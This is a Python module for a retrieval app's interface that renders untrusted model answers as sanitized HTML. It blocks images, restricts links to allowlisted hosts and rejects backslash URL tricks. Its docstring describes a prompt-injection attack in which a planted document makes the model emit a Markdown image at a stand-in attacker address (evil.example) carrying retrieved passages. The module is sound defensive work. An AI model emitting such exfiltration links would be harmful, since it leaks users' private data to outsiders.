"""Untrusted text shown as formatted text: model answers, and what documents say about themselves.

A planted document can make the model write `![](https://evil.example/?d=<passages>)`: a browser that renders it
fetches the address, and with it whatever a privileged reader's answer held. So nothing untrusted goes through
Streamlit's Markdown (which loads images and turns bare addresses into links). markdown-it renders it here with raw
HTML off, then the page shows that HTML (`st.html`):
- an image is never loaded: its alt text is shown instead;
- a link is clickable only when its host is on the allowlist (RAGFN_UI_LINK_HOSTS); any other shows its text and
  its address as code, so a reader sees where it would have gone;
- bare addresses stay text (no linkify), and markdown-it refuses `javascript:`, `vbscript:`, `file:` and `data:`
  links by itself.
"""

from __future__ import annotations

from html import escape
from urllib.parse import urlparse

from markdown_it import MarkdownIt


class SafeMarkdown:
    def __init__(self, link_hosts: frozenset[str] = frozenset()) -> None:
        self.link_hosts = frozenset(host.lower() for host in link_hosts)
        self._md = MarkdownIt("commonmark", {"html": False, "linkify": False}).enable(["table", "strikethrough"])
        # markdown-it binds each rule to its renderer: the rules take it first, and this object from the closure
        for name, rule in (("image", self._image), ("link_open", self._link_open), ("link_close", self._link_close)):
            self._md.add_render_rule(name, lambda _renderer, tokens, idx, options, env, rule=rule: rule(tokens, idx,
                                                                                                          env))

    def allowed(self, href: str) -> bool:
        # a browser reads a backslash as "/" (so "https://evil<backslash>@ok/" goes to evil) where urlparse does not;
        # markdown-it encodes such characters in Markdown links, but a source URI comes as it is
        if any(c == "\\" or c.isspace() or ord(c) < 32 for c in href):
            return False
        url = urlparse(href)
        return url.scheme in ("http", "https") and (url.hostname or "").lower() in self.link_hosts

    def html(self, text: str) -> str:
        return self._md.render(text, {"links": []})

    def link(self, href: str, label: str | None = None) -> str:
        """One address as HTML: a link when its host is allowed, else the address as code."""
        if self.allowed(href):
            return (f'<a href="{escape(href)}" rel="noopener noreferrer nofollow" target="_blank">'
                    f"{escape(label or href)}</a>")
        return f"<code>{escape(href)}</code>"

    def _image(self, tokens, idx, env) -> str:
        alt = "".join(child.content for child in tokens[idx].children or [])
        return f"<em>[image: {escape(alt or 'no description')}]</em>"

    def _link_open(self, tokens, idx, env) -> str:
        href = str(tokens[idx].attrGet("href") or "")
        env["links"].append(href)
        if self.allowed(href):
            return f'<a href="{escape(href)}" rel="noopener noreferrer nofollow" target="_blank">'
        return "<span>"

    def _link_close(self, tokens, idx, env) -> str:
        href = env["links"].pop()
        return "</a>" if self.allowed(href) else f"</span> (<code>{escape(href)}</code>)"
